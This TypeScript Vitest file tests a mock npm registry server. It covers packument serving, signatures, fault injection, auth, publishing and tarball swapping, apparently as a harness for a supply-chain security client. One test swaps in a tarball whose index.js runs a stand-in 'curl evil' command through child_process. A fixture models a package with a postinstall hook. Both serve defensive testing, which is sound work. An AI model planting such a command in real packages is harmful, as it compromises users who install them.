import { createPublicKey, verify } from 'node:crypto';
import { request } from 'node:http';
import { afterEach, describe, expect, it } from 'vitest';
import { cleanPackage, withBindingGyp, withPostinstall } from './fixtures.js';
import { signedMessage, testKeys } from './keys.js';
import { startRegistry, type TestRegistry } from './server.js';
import { integrityOf, packTarball, readTarball } from './tarball.js';

const ABBREVIATED = 'application/vnd.npm.install-v1+json';
type Json = Record<string, any>; // free-form JSON under test

const running: TestRegistry[] = [];
afterEach(async () => {
  await Promise.all(running.splice(0).map((registry) => registry.close()));
});

async function start(...args: Parameters<typeof startRegistry>): Promise<TestRegistry> {
  const registry = await startRegistry(...args);
  running.push(registry);
  return registry;
}

async function getJson(url: string, headers: Record<string, string> = {}): Promise<{ status: number; body: Json; headers: Headers }> {
  const res = await fetch(url, { headers });
  return { status: res.status, body: (await res.json()) as Json, headers: res.headers };
}

/** Raw GET that reports a network error instead of throwing (fetch hides the details). */
function rawGet(url: string): Promise<{ status?: number; body?: Buffer; error?: string }> {
  return new Promise((resolve) => {
    const req = request(url, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => resolve({ status: res.statusCode, body: Buffer.concat(chunks) }));
      res.on('error', (error) => resolve({ status: res.statusCode, error: error.message }));
      res.on('aborted', () => resolve({ status: res.statusCode, error: 'aborted' }));
    });
    req.on('error', (error) => resolve({ error: (error as NodeJS.ErrnoException).code ?? error.message }));
    req.end();
  });
}

const verifies = (keyBase64: string, name: string, version: string, integrity: string, sig: string) =>
  verify('sha256', Buffer.from(signedMessage(name, version, integrity)), createPublicKey({ key: Buffer.from(keyBase64, 'base64'), format: 'der', type: 'spki' }), Buffer.from(sig, 'base64'));

const basic = [
  cleanPackage('left-pad-lite', '1.0.0'),
  cleanPackage('left-pad-lite', '1.1.0'),
  cleanPackage('left-pad-lite', '2.0.0-beta.1'),
  cleanPackage('@acme/logger', '2.1.0', { dependencies: { 'left-pad-lite': '^1.0.0' }, publishedAt: '2026-01-02T03:04:05.000Z' }),
  withPostinstall('evil-postinstall', '1.0.0'),
  withBindingGyp('native-addon', '1.0.0'),
];

describe('packuments', () => {
  it('serves the full packument with time, dist-tags and signed dist', async () => {
    const registry = await start({ packages: basic });
    const { status, body, headers } = await getJson(`${registry.url}left-pad-lite`, { accept: 'application/json' });
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('application/json');
    expect(body).toMatchObject({ _id: 'left-pad-lite', name: 'left-pad-lite', readme: '', 'dist-tags': { latest: '1.1.0' } });
    expect(Object.keys(body.versions)).toEqual(['1.0.0', '1.1.0', '2.0.0-beta.1']);
    expect(Object.keys(body.time)).toEqual(['created', 'modified', '1.0.0', '1.1.0', '2.0.0-beta.1']);
    expect(body.time.created).toBe(body.time['1.0.0']);
    expect(body.time.modified).toBe(body.time['2.0.0-beta.1']);
    const v = body.versions['1.1.0'];
    expect(v.dist.tarball).toBe(`${registry.url}left-pad-lite/-/left-pad-lite-1.1.0.tgz`);
    expect(v.dist.integrity).toBe(registry.integrity('left-pad-lite', '1.1.0'));
    expect(v.dist).toHaveProperty('shasum');
    expect(v.dist.fileCount).toBe(2);
    expect(v.dist.unpackedSize).toBeGreaterThan(0);
    expect(v.dist.signatures).toHaveLength(1);
    const [sig] = v.dist.signatures;
    const key = registry.keys.keys.find((k) => k.keyid === sig.keyid)!;
    expect(verifies(key.key, 'left-pad-lite', '1.1.0', v.dist.integrity, sig.sig)).toBe(true);
    expect(v.hasInstallScript).toBeUndefined();
  });

  it('serves the abbreviated packument with npm’s field set only', async () => {
    const registry = await start({ packages: basic });
    const res = await fetch(`${registry.url}evil-postinstall`, { headers: { accept: `${ABBREVIATED}; q=1.0, application/json; q=0.8, */*` } });
    expect(res.headers.get('content-type')).toBe(ABBREVIATED);
    const body = (await res.json()) as Json;
    expect(Object.keys(body).sort()).toEqual(['dist-tags', 'modified', 'name', 'versions']);
    const v = body.versions['1.0.0'];
    expect(v.hasInstallScript).toBe(true);
    expect(v.scripts).toBeUndefined();
    expect(v._id).toBeUndefined();
    expect(Object.keys(v).every((field) => ['name', 'version', 'dist', 'hasInstallScript', '_hasShrinkwrap'].includes(field))).toBe(true);
    const gyp = (await getJson(`${registry.url}native-addon`, { accept: ABBREVIATED })).body;
    expect(gyp.versions['1.0.0'].hasInstallScript).toBe(true);
    const full = (await getJson(`${registry.url}native-addon`)).body;
    expect(full.versions['1.0.0'].scripts).toEqual({ install: 'node-gyp rebuild' });
  });

  it('honours explicit tags and publishedAt', async () => {
    const registry = await start({ packages: [cleanPackage('t', '1.0.0', { tags: ['latest'] }), cleanPackage('t', '2.0.0', { tags: ['next'], publishedAt: '2024-01-01T00:00:00.000Z' })] });
    const { body } = await getJson(`${registry.url}t`);
    expect(body['dist-tags']).toEqual({ latest: '1.0.0', next: '2.0.0' });
    expect(body.time['2.0.0']).toBe('2024-01-01T00:00:00.000Z');
    expect(body.time.created).toBe('2024-01-01T00:00:00.000Z');
  });

  it('serves scoped packages at %2f and / paths, and their tarballs at the conventional path', async () => {
    const registry = await start({ packages: basic });
    const encoded = await getJson(`${registry.url}@acme%2flogger`);
    const plain = await getJson(`${registry.url}@acme/logger`);
    expect(encoded.body).toEqual(plain.body);
    expect(encoded.body.time['2.1.0']).toBe('2026-01-02T03:04:05.000Z');
    const tarballUrl = encoded.body.versions['2.1.0'].dist.tarball;
    expect(tarballUrl).toBe(`${registry.url}@acme/logger/-/logger-2.1.0.tgz`);
    for (const url of [tarballUrl, `${registry.url}@acme%2flogger/-/logger-2.1.0.tgz`]) {
      const bytes = Buffer.from(await (await fetch(url)).arrayBuffer());
      expect(integrityOf(bytes)).toBe(encoded.body.versions['2.1.0'].dist.integrity);
      expect(readTarball(bytes).map((e) => e.path)).toContain('package.json');
    }
  });

  it('answers 404 JSON for unknown packages, versions and tarballs', async () => {
    const registry = await start({ packages: basic });
    for (const path of ['nope', '@acme/nope', 'left-pad-lite/-/left-pad-lite-9.9.9.tgz', 'left-pad-lite/9.9.9']) {
      const { status, body } = await getJson(`${registry.url}${path}`);
      expect([path, status, body]).toEqual([path, 404, { error: 'Not found' }]);
    }
  });

  it('answers npm’s bulk advisory query with no advisories', async () => {
    const registry = await start({ packages: basic });
    const res = await fetch(`${registry.url}-/npm/v1/security/advisories/bulk`, { method: 'POST', body: '{"left-pad-lite":["1.0.0"]}' });
    expect([res.status, await res.json()]).toEqual([200, {}]);
  });

  it('serves one version by number or tag', async () => {
    const registry = await start({ packages: basic });
    expect((await getJson(`${registry.url}left-pad-lite/latest`)).body.version).toBe('1.1.0');
    expect((await getJson(`${registry.url}left-pad-lite/1.0.0`)).body.version).toBe('1.0.0');
  });
});

describe('request log', () => {
  it('keeps each request\'s User-Agent at its index, so a test can tell one client\'s requests from another\'s', async () => {
    const registry = await start({ packages: basic });
    await fetch(`${registry.url}left-pad-lite`, { headers: { 'user-agent': 'portcullis (test)' } });
    await fetch(`${registry.url}left-pad-lite`, { headers: { 'user-agent': 'pnpm/12 (test)' } });
    expect(registry.requests.map((r) => r.path)).toEqual(['/left-pad-lite', '/left-pad-lite']);
    expect(registry.userAgents).toEqual(['portcullis (test)', 'pnpm/12 (test)']);
  });
});

describe('conditional requests', () => {
  it('answers 304 to a matching If-None-Match or a later If-Modified-Since', async () => {
    const registry = await start({ packages: basic });
    const url = `${registry.url}left-pad-lite`;
    const first = await fetch(url);
    const etag = first.headers.get('etag')!;
    const lastModified = first.headers.get('last-modified')!;
    expect(etag).toMatch(/^"[0-9a-f]{40}"$/);
    expect(new Date(lastModified).toISOString()).toBe('2026-06-01T12:02:00.000Z');
    expect((await fetch(url, { headers: { 'if-none-match': etag } })).status).toBe(304);
    expect((await fetch(url, { headers: { 'if-none-match': '"other"' } })).status).toBe(200);
    expect((await fetch(url, { headers: { 'if-modified-since': lastModified } })).status).toBe(304);
    expect((await fetch(url, { headers: { 'if-modified-since': 'Mon, 01 Jun 2026 11:00:00 GMT' } })).status).toBe(200);
    // The abbreviated document is a different representation with its own ETag.
    const abbreviated = await fetch(url, { headers: { accept: ABBREVIATED } });
    expect(abbreviated.headers.get('etag')).not.toBe(etag);
    const tarball = await fetch(`${registry.url}left-pad-lite/-/left-pad-lite-1.1.0.tgz`);
    expect(new Date(tarball.headers.get('last-modified')!).toISOString()).toBe('2026-06-01T12:01:00.000Z');
    expect((await fetch(tarball.url, { headers: { 'if-none-match': tarball.headers.get('etag')! } })).status).toBe(304);
  });
});

describe('faults', () => {
  it('status, then removal with null', async () => {
    const registry = await start({ packages: basic });
    registry.setFault('/left-pad-lite', { kind: 'status', status: 503 });
    expect((await fetch(`${registry.url}left-pad-lite`)).status).toBe(503);
    expect((await fetch(`${registry.url}@acme/logger`)).status).toBe(200);
    registry.setFault('/left-pad-lite', null);
    expect((await fetch(`${registry.url}left-pad-lite`)).status).toBe(200);
  });

  it('matches the decoded path and regular expressions; clearFaults removes all', async () => {
    const registry = await start({ packages: basic });
    registry.setFault('/@acme/logger', { kind: 'status', status: 500 });
    registry.setFault(/\.tgz$/, { kind: 'status', status: 403 });
    expect((await fetch(`${registry.url}@acme%2flogger`)).status).toBe(500);
    expect((await fetch(`${registry.url}left-pad-lite/-/left-pad-lite-1.0.0.tgz`)).status).toBe(403);
    registry.clearFaults();
    expect((await fetch(`${registry.url}@acme%2flogger`)).status).toBe(200);
  });

  it('delay', async () => {
    const registry = await start({ packages: basic });
    registry.setFault('/left-pad-lite', { kind: 'delay', ms: 150 });
    const started = Date.now();
    expect((await fetch(`${registry.url}left-pad-lite`)).status).toBe(200);
    expect(Date.now() - started).toBeGreaterThanOrEqual(140);
  });

  it('truncate cuts the body short of its Content-Length', async () => {
    const registry = await start({ packages: basic });
    registry.setFault('/left-pad-lite/-/left-pad-lite-1.0.0.tgz', { kind: 'truncate' });
    const result = await rawGet(`${registry.url}left-pad-lite/-/left-pad-lite-1.0.0.tgz`);
    expect(result.status).toBe(200);
    expect(result.error).toBeDefined();
  });

  it('reset drops the connection without a response', async () => {
    const registry = await start({ packages: basic });
    registry.setFault('/left-pad-lite', { kind: 'reset' });
    const result = await rawGet(`${registry.url}left-pad-lite`);
    expect(result.status).toBeUndefined();
    expect(result.error).toMatch(/ECONNRESET|socket hang up/);
    expect(registry.requests.at(-1)).toEqual({ method: 'GET', path: '/left-pad-lite', status: 0 });
  });

  it('invalid-json', async () => {
    const registry = await start({ packages: basic });
    registry.setFault('/left-pad-lite', { kind: 'invalid-json' });
    const res = await fetch(`${registry.url}left-pad-lite`);
    expect(res.status).toBe(200);
    await expect(res.json()).rejects.toThrow();
  });

  it('drop-signatures strips dist.signatures on that path only, and 404s the keys', async () => {
    const registry = await start({ packages: basic });
    registry.setFault('/left-pad-lite', { kind: 'drop-signatures' });
    registry.setFault('/-/npm/v1/keys', { kind: 'drop-signatures' });
    const stripped = (await getJson(`${registry.url}left-pad-lite`)).body;
    expect(Object.values(stripped.versions).some((v: any) => 'signatures' in v.dist)).toBe(false);
    const abbreviated = (await getJson(`${registry.url}left-pad-lite`, { accept: ABBREVIATED })).body;
    expect(abbreviated.versions['1.0.0'].dist.signatures).toBeUndefined();
    expect((await getJson(`${registry.url}@acme/logger`)).body.versions['2.1.0'].dist.signatures).toHaveLength(1);
    expect((await fetch(`${registry.url}-/npm/v1/keys`)).status).toBe(404);
  });

  it('oversize pads JSON to the size and keeps it valid', async () => {
    const registry = await start({ packages: basic });
    registry.setFault('/left-pad-lite', { kind: 'oversize', bytes: 3_000_000 });
    const res = await fetch(`${registry.url}left-pad-lite`);
    expect(Number(res.headers.get('content-length'))).toBe(3_000_000);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect(bytes.length).toBe(3_000_000);
    expect((JSON.parse(bytes.toString('utf8')) as Json).name).toBe('left-pad-lite');
    registry.setFault(/\.tgz$/, { kind: 'oversize', bytes: 100_000 });
    const tgz = await fetch(`${registry.url}left-pad-lite/-/left-pad-lite-1.0.0.tgz`);
    expect((await tgz.arrayBuffer()).byteLength).toBe(100_000);
  });

  it('logs every request with its status', async () => {
    const registry = await start({ packages: basic });
    await fetch(`${registry.url}left-pad-lite`);
    await fetch(`${registry.url}nope`);
    expect(registry.requests).toEqual([
      { method: 'GET', path: '/left-pad-lite', status: 200 },
      { method: 'GET', path: '/nope', status: 404 },
    ]);
  });
});

describe('auth', () => {
  it('requires the Bearer token when one is set', async () => {
    const registry = await start({ packages: basic, token: 's3cret' });
    const denied = await fetch(`${registry.url}left-pad-lite`);
    expect(denied.status).toBe(401);
    expect(denied.headers.get('www-authenticate')).toMatch(/^Bearer/);
    expect((await fetch(`${registry.url}left-pad-lite`, { headers: { authorization: 'Bearer wrong' } })).status).toBe(401);
    expect((await fetch(`${registry.url}left-pad-lite`, { headers: { authorization: 'Bearer s3cret' } })).status).toBe(200);
    expect((await fetch(`${registry.url}-/npm/v1/keys`, { headers: { authorization: 'Bearer s3cret' } })).status).toBe(200);
  });
});

describe('keys and signatures', () => {
  it('serves exactly registry.keys at /-/npm/v1/keys', async () => {
    const registry = await start();
    expect((await getJson(`${registry.url}-/npm/v1/keys`)).body).toEqual(registry.keys);
    expect(registry.keys.keys.map((k) => k.keyid)).not.toContain(testKeys.unknown.record.keyid);
  });

  it('signs each kind as specified', async () => {
    const registry = await start({
      packages: [
        cleanPackage('u', '1.0.0', { signature: 'none' }),
        cleanPackage('r', '1.0.0', { signature: 'unknown-key' }),
        cleanPackage('e', '1.0.0', { signature: 'expired-key', publishedAt: '2024-01-01T00:00:00.000Z' }),
        cleanPackage('d', '1.0.0', { signature: 'duplicate' }),
      ],
    });
    const dist = async (name: string) => (await getJson(`${registry.url}${name}`)).body.versions['1.0.0'].dist;
    expect((await dist('u')).signatures).toBeUndefined();
    expect((await dist('r')).signatures[0].keyid).toBe(testKeys.unknown.record.keyid);
    const expired = await dist('e');
    expect(expired.signatures[0].keyid).toBe(testKeys.expired.record.keyid);
    expect(verifies(testKeys.expired.record.key, 'e', '1.0.0', expired.integrity, expired.signatures[0].sig)).toBe(true);
    expect((await dist('d')).signatures).toHaveLength(2);
  });

  it('mirror mode serves no signatures and 404 for the keys', async () => {
    const registry = await start({ packages: basic, stripSignatures: true });
    expect(registry.keys).toEqual({ keys: [] });
    expect((await fetch(`${registry.url}-/npm/v1/keys`)).status).toBe(404);
    const body = (await getJson(`${registry.url}left-pad-lite`)).body;
    expect(Object.values(body.versions).some((v: any) => 'signatures' in v.dist)).toBe(false);
  });
});

describe('changing the registry at run time', () => {
  it('add() adds and replaces versions', async () => {
    const registry = await start({ packages: basic });
    registry.add(cleanPackage('fresh', '0.1.0'));
    expect((await fetch(`${registry.url}fresh`)).status).toBe(200);
    const before = registry.integrity('left-pad-lite', '1.0.0');
    registry.add(cleanPackage('left-pad-lite', '1.0.0', { files: { 'index.js': 'module.exports = 2;\n' } }));
    expect(registry.integrity('left-pad-lite', '1.0.0')).not.toBe(before);
    expect(() => registry.integrity('left-pad-lite', '7.0.0')).toThrow(/no such fixture/);
  });

  it('swapTarball serves other bytes under unchanged metadata; add() restores', async () => {
    const registry = await start({ packages: basic });
    const url = `${registry.url}left-pad-lite/-/left-pad-lite-1.0.0.tgz`;
    const metadata = (await getJson(`${registry.url}left-pad-lite`)).body;
    registry.swapTarball('left-pad-lite', '1.0.0', { 'index.js': 'require("child_process").exec("curl evil")\n' });
    const bytes = Buffer.from(await (await fetch(url)).arrayBuffer());
    expect(integrityOf(bytes)).not.toBe(metadata.versions['1.0.0'].dist.integrity);
    expect(readTarball(bytes).find((e) => e.path === 'index.js')!.content.toString()).toContain('curl evil');
    expect((await getJson(`${registry.url}left-pad-lite`)).body).toEqual(metadata);
    registry.add(cleanPackage('left-pad-lite', '1.0.0'));
    expect(integrityOf(Buffer.from(await (await fetch(url)).arrayBuffer()))).toBe(registry.integrity('left-pad-lite', '1.0.0'));
  });
});

describe('publish', () => {
  function publishBody(name: string, version: string, extra: Json = {}) {
    const tarball = packTarball([{ path: 'package.json', content: Buffer.from(JSON.stringify({ name, version, scripts: { postinstall: 'echo hi' } })), mode: 0o644 }]);
    return {
      _id: name,
      name,
      'dist-tags': { latest: version },
      versions: { [version]: { name, version, scripts: { postinstall: 'echo hi' }, dist: { integrity: 'sha512-claimed', tarball: 'http://elsewhere/x.tgz' }, ...extra } },
      _attachments: { [`${name}-${version}.tgz`]: { content_type: 'application/octet-stream', data: tarball.toString('base64'), length: tarball.length } },
      tarball,
    };
  }

  it('accepts npm-publish bodies, computes integrity and signs with the active key', async () => {
    const registry = await start({ token: 'tok' });
    const { tarball, ...body } = publishBody('@acme/new', '1.0.0');
    const put = await fetch(`${registry.url}@acme%2fnew`, { method: 'PUT', headers: { authorization: 'Bearer tok', 'content-type': 'application/json' }, body: JSON.stringify(body) });
    expect(put.status).toBe(201);
    const doc = (await getJson(`${registry.url}@acme/new`, { authorization: 'Bearer tok' })).body;
    const v = doc.versions['1.0.0'];
    expect(v.dist.integrity).toBe(integrityOf(tarball));
    expect(v.dist.tarball).toBe(`${registry.url}@acme/new/-/new-1.0.0.tgz`);
    expect(v.hasInstallScript).toBe(true);
    expect(v.dist.signatures[0].keyid).toBe(testKeys.active.record.keyid);
    expect(verifies(testKeys.active.record.key, '@acme/new', '1.0.0', v.dist.integrity, v.dist.signatures[0].sig)).toBe(true);
    expect(doc['dist-tags'].latest).toBe('1.0.0');
    const again = await fetch(`${registry.url}@acme%2fnew`, { method: 'PUT', headers: { authorization: 'Bearer tok' }, body: JSON.stringify(body) });
    expect(again.status).toBe(403);
  });

  it('rejects malformed publishes', async () => {
    const registry = await start();
    const { tarball: _tarball, ...body } = publishBody('p', '1.0.0');
    for (const bad of ['not json', JSON.stringify({ ...body, name: 'other' }), JSON.stringify({ ...body, _attachments: {} }), JSON.stringify({ ...body, _attachments: { x: { data: 'bm90IGEgdGFy' } } })]) {
      expect((await fetch(`${registry.url}p`, { method: 'PUT', body: bad })).status).toBe(400);
    }
  });
});
